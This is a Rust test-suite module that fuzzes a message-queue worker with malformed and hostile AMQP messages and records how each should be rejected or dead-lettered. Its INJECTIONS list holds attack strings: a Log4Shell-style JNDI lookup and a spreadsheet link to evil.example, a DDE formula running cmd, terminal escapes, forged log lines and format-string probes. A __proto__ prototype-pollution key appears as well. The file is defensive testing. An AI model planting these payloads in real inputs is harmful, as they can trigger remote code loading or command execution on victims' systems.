//! The kinds of hostile messages.

use rand::RngExt as _;
use rand::rngs::StdRng;
use serde_json::{Value, json};

use super::{Fate, Lie, pick};
use crate::support::raw_amqp::{MOST_PROPERTIES, nested};

/// Every kind.
pub const KINDS: [fn(&mut Lie, &mut StdRng); 12] = [
    no_json,
    broken_json,
    nested_json,
    ambiguous_json,
    wrong_type,
    large_number,
    injection,
    large_body,
    meaningful_headers,
    pretended_copy,
    unreadable_properties,
    strange_envelope,
];

/// What a terminal, a log or a spreadsheet might obey.
const INJECTIONS: [&str; 8] = [
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "x\r\n2026-01-01T00:00:00Z ERROR kf_worker: forged line",
    "\u{202e}tset@nab\u{2066}",
    "=HYPERLINK(\"http://evil.example\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{0}\u{8}\u{7f}\u{9b}31m",
    "\"}],\"x\":{",
    "${jndi:ldap://evil.example/a}{{7*7}}%s%n",
];
/// The headers that mean something to the worker, the broker or a trace.
const MEANINGFUL: [&str; 12] = [
    "ce-id",
    "ce-time",
    "traceparent",
    "tracestate",
    "baggage",
    "x-death",
    "x-first-death-queue",
    "x-delivery-count",
    "kf-dead-id",
    "kf-reason",
    "kf-dead-proof",
    "kf-failed-at",
];
fn no_json(lie: &mut Lie, rng: &mut StdRng) {
    // A first byte with which no JSON object begins, and the number, so that each is another one.
    let number = lie.command_id.clone().into_bytes();
    lie.body = std::iter::once(rng.random_range(0x80..=0xff)).chain(number).collect();
    lie.body.extend((0..rng.random_range(0..2_000)).map(|_| rng.random::<u8>()));
    lie.dies(rng, "not_a_json_object");
}

fn broken_json(lie: &mut Lie, rng: &mut StdRng) {
    let at = rng.random_range(20..lie.body.len());
    match rng.random_range(0..3) {
        0 => lie.body.truncate(at),
        1 => lie.body.insert(at, pick(rng, &[0x00, 0x1b, 0xff, 0xc0])),
        _ => lie.body.extend_from_slice(b" {}"),
    }
    lie.dies(rng, "not_a_json_object");
}

fn nested_json(lie: &mut Lie, rng: &mut StdRng) {
    let (open, close) = pick(rng, &[("[", "]"), (r#"{"a":"#, "}")]);
    let depth = rng.random_range(129..6_000);
    let close = if rng.random_bool(0.5) { close } else { "" };
    let meta = format!("{}1{}", open.repeat(depth), close.repeat(depth));
    lie.rewrite(format!(r#"{{"command_id":"{}","meta":{meta}}}"#, lie.command_id), Fate::Done);
    lie.dies(rng, "not_a_json_object");
}

fn ambiguous_json(lie: &mut Lie, rng: &mut StdRng) {
    let (again, fate) = pick(
        rng,
        &[
            (r#""action":"add""#, Fate::Rejected("duplicate_key")),
            (r#""kf_account":"other@test""#, Fate::Rejected("duplicate_key")),
            (r#""meta":{"a":{"b":1,"b":2}}"#, Fate::Rejected("duplicate_key")),
            (r#""\u0061ction":"add""#, Fate::Rejected("duplicate_key")),
            (r#""command_id":"somebody-else""#, Fate::Dead("duplicate_key")),
            (r#""Action":"add""#, Fate::Rejected("unknown_field")),
            (r#""__proto__":{"admin":true}"#, Fate::Rejected("unknown_field")),
        ],
    );
    let text = String::from_utf8_lossy(&lie.body).into_owned();
    lie.rewrite(format!("{},{again}}}", text.trim_end_matches('}')), fate);
}

fn wrong_type(lie: &mut Lie, rng: &mut StdRng) {
    let value = pick(rng, &["null", "true", "[]", "-7.5", r#"[["x"]]"#]);
    let value: Value = serde_json::from_str(value).expect("JSON");
    let field = pick(rng, &["action", "kf_account", "revision", "meta", "command_id"]);
    let fate = if field == "command_id" { Fate::Dead("invalid_command_id") } else { Fate::Rejected("wrong_type") };
    lie.change(field, value, fate);
}

fn large_number(lie: &mut Lie, rng: &mut StdRng) {
    let (number, fate) = pick(
        rng,
        &[
            ("9223372036854775808", Fate::Rejected("invalid_revision")),
            ("-1", Fate::Rejected("invalid_revision")),
            ("99999999999999999999999", Fate::Rejected("wrong_type")),
            ("1e300", Fate::Rejected("wrong_type")),
            ("0.1", Fate::Rejected("wrong_type")),
            ("1e99999", Fate::Dead("not_a_json_object")),
            ("00", Fate::Dead("not_a_json_object")),
            ("NaN", Fate::Dead("not_a_json_object")),
        ],
    );
    let text = String::from_utf8_lossy(&lie.body).into_owned();
    lie.rewrite(format!(r#"{},"revision":{number}}}"#, text.trim_end_matches('}')), fate);
}

fn injection(lie: &mut Lie, rng: &mut StdRng) {
    let text = pick(rng, &INJECTIONS);
    match rng.random_range(0..6) {
        0 => lie.change("kf_account", json!(text), Fate::Rejected("invalid_kf_account")),
        1 => lie.change("action", json!(text), Fate::Rejected("invalid_action")),
        2 => lie.change(text, json!(text), Fate::Rejected("unknown_field")),
        3 => lie.change("nickname", json!(text), Fate::Rejected("invalid_nickname")),
        4 => lie.change("command_id", json!(format!("\u{7f}{text}")), Fate::Dead("invalid_command_id")),
        // What a producer keeps for itself comes back to it, and is shown to nobody else.
        _ => lie.change("meta", json!({ text: text }), Fate::Done),
    }
    lie.with(|properties| properties.header(text.as_bytes(), text.as_bytes()).correlation_id(text.as_bytes()));
    lie.routing_key = text.chars().take(60).collect();
}

fn large_body(lie: &mut Lie, rng: &mut StdRng) {
    let size = pick(rng, &[64 * 1024 + 1, 64 * 1024 + 77, 131_064, 131_065, 200_000]);
    lie.body.resize(size, b' ');
    lie.dies(rng, "body_too_large");
}

/// Headers of types and texts that nobody writes; they change nothing.
fn meaningful_headers(lie: &mut Lie, rng: &mut StdRng) {
    for _ in 0..rng.random_range(1..6) {
        let name = pick(rng, &MEANINGFUL).as_bytes();
        let eight = rng.random::<u64>().to_be_bytes();
        let text = pick(rng, &INJECTIONS).as_bytes();
        lie.with(|properties| match eight[0] % 6 {
            0 => properties.typed_header(name, b'l', &eight),
            1 => properties.typed_header(name, b'V', &[]),
            2 => properties.typed_header(name, b'D', &eight[..5]),
            3 => properties.typed_header(name, b'A', &nested(b'A', 5)),
            4 => properties.typed_header(name, b'F', &nested(b'F', 5)),
            _ => properties.header(name, text),
        });
    }
    let second = pick(rng, &[0, 1, u64::MAX, i64::MAX.unsigned_abs(), 253_402_300_800]);
    lie.with(|properties| properties.timestamp(second));
}

/// What says that it comes from a worker of this ledger, and can't know what it would have to.
fn pretended_copy(lie: &mut Lie, rng: &mut StdRng) {
    let name: &[u8] = pick(rng, &[&b"kf-put-off"[..], b"kf-replay"]);
    if rng.random_bool(0.7) {
        let text = pick(rng, &INJECTIONS);
        lie.with(|properties| properties.header(name, text.as_bytes()));
        lie.fate = Fate::Dead("ledger_lost");
    } else {
        lie.with(|properties| properties.typed_header(name, b'I', &[0, 0, 0, 1]));
    }
}

fn unreadable_properties(lie: &mut Lie, rng: &mut StdRng) {
    match rng.random_range(0..4) {
        0 => lie.with(|properties| properties.correlation_id(b"\xff\xfe\xfd")),
        1 => lie.with(|properties| properties.header(b"\x80", b"")),
        2 => {
            let (kind, levels) = pick(rng, &[(b'F', 40), (b'A', 400), (b'F', 20_000), (b'A', 24_000)]);
            lie.with(|properties| properties.typed_header(b"deep", kind, &nested(kind, levels)));
        }
        _ => {
            // Room for what may come to it yet.
            let size = rng.random_range(64 * 1024 + 1..MOST_PROPERTIES - 512);
            lie.with(|properties| properties.filled(size));
        }
    }
    lie.dies(rng, "unreadable_properties");
}

/// CloudEvents that are none, and ids that differ.
fn strange_envelope(lie: &mut Lie, rng: &mut StdRng) {
    let text = pick(rng, &INJECTIONS).as_bytes();
    match rng.random_range(0..5) {
        0 => {
            lie.with(|properties| properties.text(0, b"application/cloudevents+json; charset=\x1b[2J"));
            lie.fate = Fate::Dead("missing_command_id");
        }
        1 => {
            lie.with(|properties| properties.header(b"ce-type", text));
            lie.fate = Fate::Dead("missing_command_id");
        }
        2 => {
            let id = format!("{}{}", String::from_utf8_lossy(text), lie.command_id);
            lie.with(|properties| properties.header(b"ce-type", b"kf.add").header(b"ce-id", id.as_bytes()).header(b"ce-specversion", text));
            // Printable ASCII is an id; then the action is one and the body has fields that are none.
            let printable = id.bytes().all(|byte| (0x20..0x7f).contains(&byte));
            lie.fate = if printable { Fate::Rejected("unknown_field") } else { Fate::Dead("invalid_command_id") };
            lie.command_id = id;
        }
        3 => {
            lie.with(|properties| properties.message_id(text));
            lie.fate = Fate::Dead("id_mismatch");
        }
        // Any other type of content is plain JSON.
        _ => lie.with(|properties| properties.text(0, text)),
    }
}
